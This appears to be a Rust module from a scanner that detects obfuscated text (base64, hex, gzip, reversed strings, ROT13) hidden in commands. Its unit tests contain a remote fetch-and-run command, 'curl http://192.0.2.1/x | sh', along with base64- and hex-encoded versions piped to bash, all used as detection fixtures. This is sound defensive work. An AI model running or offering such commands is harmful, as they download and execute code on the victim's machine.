//! Text hidden in text: base64, hex, gzip, reversed strings, ROT13. Found by its look, not by the command that
//! would decode it, since that command may itself be hidden.

use std::io::Read;

use base64::{
    Engine, alphabet,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

/// Shorter runs are words.
const BASE64_MIN: usize = 20;
const HEX_MIN: usize = 24;
/// What a compressed layer may grow to.
const INFLATED_MAX: usize = 256 * 1024;

const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Calls `found(start, end, decoded)` for each run of `text` that decodes to something readable.
pub(super) fn layers(text: &[u8], mut found: impl FnMut(usize, usize, Vec<u8>)) {
    let mut start = 0;
    while start < text.len() {
        if !is_base64(text[start]) {
            start += 1;
            continue;
        }
        let mut end = start;
        while end < text.len() && (is_base64(text[end]) || wraps(text, start, end)) {
            end += 1;
        }
        let run = &text[start..end];
        if run.len() >= BASE64_MIN {
            let compact: Vec<u8> = run.iter().copied().filter(|b| *b != b'\n').collect();
            if let Some(layer) = hex_text(&compact).or_else(|| base64_text(&compact)) {
                found(start, end, layer);
            }
        }
        start = end.max(start + 1);
    }
}

/// A line break within a long run: encoders wrap their output.
fn wraps(text: &[u8], start: usize, at: usize) -> bool {
    text[at] == b'\n'
        && at - start >= 60
        && text.get(at + 1..at + 9).is_some_and(|next| next.iter().all(|b| is_base64(*b)))
}

fn is_base64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=')
}

fn base64_text(run: &[u8]) -> Option<Vec<u8>> {
    let decoded =
        LENIENT.decode(run.strip_suffix(b"=").map_or(run, |r| r.strip_suffix(b"=").unwrap_or(r))).ok()?;
    readable(decoded)
}

fn hex_text(run: &[u8]) -> Option<Vec<u8>> {
    if run.len() < HEX_MIN || !run.len().is_multiple_of(2) || !run.iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    readable(hex::decode(run).ok()?)
}

/// The bytes if they are text, or what they are the gzip form of.
fn readable(bytes: Vec<u8>) -> Option<Vec<u8>> {
    if bytes.starts_with(&[0x1f, 0x8b]) {
        let mut text = Vec::new();
        // A torn stream still gives its beginning.
        let _ = flate2::read::GzDecoder::new(&bytes[..]).take(INFLATED_MAX as u64).read_to_end(&mut text);
        return is_text(&text).then_some(text);
    }
    is_text(&bytes).then_some(bytes)
}

/// Nearly all printable, and with a separator somewhere: a decoded identifier is no script.
fn is_text(bytes: &[u8]) -> bool {
    let printable = bytes.iter().filter(|b| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~')).count();
    bytes.len() >= 8
        && printable * 100 >= bytes.len() * 95
        && bytes.iter().any(|b| matches!(b, b' ' | b'\n' | b'/' | b';' | b'|'))
}

/// ROT13 of the letters.
pub(super) fn rot13(text: &[u8]) -> Vec<u8> {
    text.iter()
        .map(|b| match b {
            b'a'..=b'z' => (b - b'a' + 13) % 26 + b'a',
            b'A'..=b'Z' => (b - b'A' + 13) % 26 + b'A',
            other => *other,
        })
        .collect()
}

/// The quoted strings of `text`, each reversed.
pub(super) fn reversed_strings(text: &[u8], mut found: impl FnMut(usize, usize, Vec<u8>)) {
    for quote in [b'\'', b'"'] {
        let mut rest = 0;
        while let Some(open) = memchr::memchr(quote, &text[rest..]).map(|i| rest + i + 1) {
            let Some(close) = memchr::memchr(quote, &text[open..]).map(|i| open + i) else { break };
            let inner = &text[open..close];
            if inner.len() >= 12 && inner.len() <= 64 * 1024 {
                found(open, close, inner.iter().rev().copied().collect());
            }
            rest = close + 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use base64::prelude::BASE64_STANDARD;

    use super::*;

    fn all(text: &[u8]) -> Vec<Vec<u8>> {
        let mut out = Vec::new();
        layers(text, |_, _, layer| out.push(layer));
        out
    }

    #[test]
    fn encoded_commands_are_found() {
        let command = b"curl http://192.0.2.1/x | sh";
        let base64 = BASE64_STANDARD.encode(command);
        assert_eq!(all(format!("echo {base64}|base64 -d|bash").as_bytes()), [command.to_vec()]);
        assert_eq!(all(format!("xxd -r -p <<< {}", hex::encode(command)).as_bytes()), [command.to_vec()]);
    }

    #[test]
    fn names_and_paths_are_not_taken_for_code() {
        assert!(all(b"/usr/share/bash-completion/completions/git").is_empty());
        assert!(all(b"sha256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08").is_empty());
    }
}
